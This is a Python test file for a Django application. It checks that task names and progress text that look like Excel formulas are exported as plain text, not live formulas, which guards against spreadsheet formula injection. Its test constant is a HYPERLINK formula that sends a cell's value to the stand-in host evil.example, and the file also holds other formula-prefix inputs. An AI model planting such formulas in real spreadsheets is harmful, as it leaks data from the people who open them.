"""No live formula in any Excel duban writes (issue 10, point 1): text that Excel would
take for a formula is stored as text, by the one helper every writer uses, and an
export still imports back unchanged."""

import datetime as dt
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from duban.core import xlsx
from duban.ledger.models import KeyTask
from duban.progress.importer import build_template as progress_template
from duban.progress.models import Submission
from duban.reports import figures
from duban.reports.monthly_xlsx import render_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&D2,"点击")'
PROGRESS = "=1+1 完成主体施工"


def cells(workbook):
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            yield from row


def no_formula_anywhere(workbook):
    formulas = [c.coordinate for c in cells(workbook) if c.data_type == "f"]
    assert formulas == []


def find(workbook, text):
    found = [c for c in cells(workbook) if c.value == text]
    assert found, f"{text} not in the workbook"
    return found


@pytest.mark.parametrize("text", [EVIL, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_helper_writes_formula_like_text_as_a_quoted_text_cell(text):
    workbook = Workbook()
    ws = workbook.active
    xlsx.append_row(ws, [text, 3, None])
    buffer = BytesIO()
    workbook.save(buffer)

    cell = load_workbook(BytesIO(buffer.getvalue())).active["A1"]

    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix


def test_the_helper_writes_text_safely_in_a_write_only_sheet_too():
    workbook = Workbook(write_only=True)
    ws = workbook.create_sheet()
    xlsx.append_row(ws, [EVIL, 1])
    buffer = BytesIO()
    workbook.save(buffer)

    cell = load_workbook(BytesIO(buffer.getvalue())).active["A1"]

    assert (cell.data_type, cell.value) == ("s", EVIL)


def test_no_excel_writer_of_duban_sets_cell_values_on_its_own():
    """Every writer goes through core/xlsx.py: no bare `ws.append(` of data elsewhere."""
    from pathlib import Path

    import duban

    offenders = []
    for path in Path(duban.__file__).parent.rglob("*.py"):
        if path.name == "xlsx.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text and "xlsx" not in path.name:
            continue  # not an Excel writer (Word tables append rows too)
        for number, line in enumerate(text.splitlines(), 1):
            stripped = line.strip()
            if ".append([" in stripped and ("ws." in stripped or "sheet" in stripped):
                if "xlsx.cell(" not in stripped and "header_cell(" not in stripped:
                    offenders.append(f"{path.name}:{number}: {stripped}")
    # a row of cells made by the helper may be appended directly
    assert [o for o in offenders if "ws.append([])" not in o] == []


@pytest.fixture
def alice(client, people):
    client.force_login(people["alice"])
    return client


def test_a_task_named_like_a_formula_is_exported_as_text_and_imports_back_unchanged(
    alice, tasks, settings, tmp_path
):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    KeyTask.objects.filter(pk=tasks["build"].pk).update(title=EVIL, goal="-3 户", leader="@张")

    exported = alice.get(reverse("ledger:export"), {"year": 2022}).content
    workbook = load_workbook(BytesIO(exported))

    no_formula_anywhere(workbook)
    (cell,) = find(workbook, EVIL)
    assert cell.data_type == "s"

    upload = SimpleUploadedFile("重点工作台账-2022.xlsx", exported)
    alice.post(reverse("ledger:import"), {"file": upload, "year": 2022})
    preview = alice.get(reverse("ledger:import_preview"))
    assert preview.status_code == 200
    assert "与系统中的数据完全一致" in preview.content.decode()
    assert KeyTask.objects.get(pk=tasks["build"].pk).title == EVIL


def test_the_reports_excel_keeps_a_task_name_and_a_progress_text_as_text(judged, office):
    task = judged["build"]
    KeyTask.objects.filter(pk=task.pk).update(title=EVIL)
    Submission.objects.create(
        task=task,
        period="2022-07",
        unit=task.lead_unit,
        state=Submission.State.ACCEPTED,
        progress=PROGRESS,
    )
    data = figures.monthly(office, "2022-07", today=dt.date(2022, 8, 5))

    workbook = load_workbook(BytesIO(render_xlsx(data)))

    no_formula_anywhere(workbook)
    assert [c.data_type for c in find(workbook, EVIL)] == ["s"]
    assert [c.data_type for c in find(workbook, PROGRESS)] == ["s"]


def test_the_progress_template_keeps_a_task_name_as_text(tasks, office):
    KeyTask.objects.filter(pk=tasks["build"].pk).update(title=EVIL)
    buffer = BytesIO()
    progress_template(office, "2022-07").save(buffer)

    workbook = load_workbook(BytesIO(buffer.getvalue()))

    no_formula_anywhere(workbook)
    assert [c.data_type for c in find(workbook, EVIL)] == ["s"]
